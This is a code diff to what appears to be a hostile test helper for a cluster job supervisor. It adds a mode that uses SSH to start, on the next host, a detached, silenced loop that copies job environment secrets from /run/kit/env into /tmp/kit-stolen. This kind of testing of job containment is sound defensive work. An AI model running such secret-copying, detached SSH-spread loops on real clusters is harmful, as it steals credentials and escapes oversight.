@@ -12,10 +12,16 @@
   outlive.py JOBS_DIR fifo    the rank on the primary makes its exit file a FIFO and its output.log a link to
                               /dev/zero; then they sleep
   outlive.py JOBS_DIR sleep   a few seconds of nothing
+  outlive.py JOBS_DIR chain ADDRESSES
+                              every rank, on its own host (the one of ADDRESSES, comma-separated cluster addresses, that
+                              is its own), starts the copying loop on the next host over the cluster's SSH, from an
+                              ssh client it detaches (`env -i`, setsid, a double fork): that loop is the child of the
+                              next host's sshd connection until the client is gone; then they sleep a while, and end
 """
 
 import os
 import shutil
+import socket
 import sys
 import time
 
@@ -23,13 +29,17 @@ folder, mode = os.path.join(sys.argv[1], os.environ["KIT_JOB"]), sys.argv[2]
 STEAL = "while :; do cat /run/kit/env/* >> /tmp/kit-stolen 2>/dev/null; sleep 0.2; done"
 
 
-def detached(argv: list[str], env: dict[str, str] | None = None) -> None:
+def detached(argv: list[str], env: dict[str, str] | None = None, quiet: bool = False) -> None:
     """argv, with no KIT_JOB nor any other variable (`env -i`) but env, in a session of its own, not this process's
-    child."""
+    child; quiet: its input and output /dev/null (it holds none of the rank's, so the rank's end is the job's)."""
     child = os.fork()
     if child == 0:
         os.setsid()
         if os.fork() == 0:
+            if quiet:
+                null = os.open(os.devnull, os.O_RDWR)
+                for fd in (0, 1, 2):
+                    os.dup2(null, fd)
             os.execve(argv[0], argv[1:], env or {})
         os._exit(0)
     os.waitpid(child, 0)
@@ -54,6 +64,19 @@ def daemons() -> None:
               "kit-hostile-daemon.invalid"])
 
 
+def chain(addresses: list[str]) -> None:
+    def own(address: str) -> bool:
+        with socket.socket() as s:
+            try:
+                s.bind((address, 0))
+                return True
+            except OSError:
+                return False
+    mine = next(i for i, a in enumerate(addresses) if own(a))
+    detached([shutil.which("ssh"), "ssh", "-o", "BatchMode=yes", addresses[(mine + 1) % len(addresses)],
+              f"sh -c '{STEAL}' kit-hostile-daemon"], quiet=True)
+
+
 def replace(name: str, make) -> None:
     path = os.path.join(folder, name)
     for _ in range(300):  # (the supervisor writes `pid` as it starts the launcher)
@@ -66,6 +89,11 @@ def replace(name: str, make) -> None:
 
 if mode == "sleep":
     time.sleep(8)
+    sys.exit(0)
+if mode == "chain":
+    chain(sys.argv[3].split(","))
+    print("planted", flush=True)
+    time.sleep(20)
     sys.exit(0)
 if mode == "forge":
     daemon()
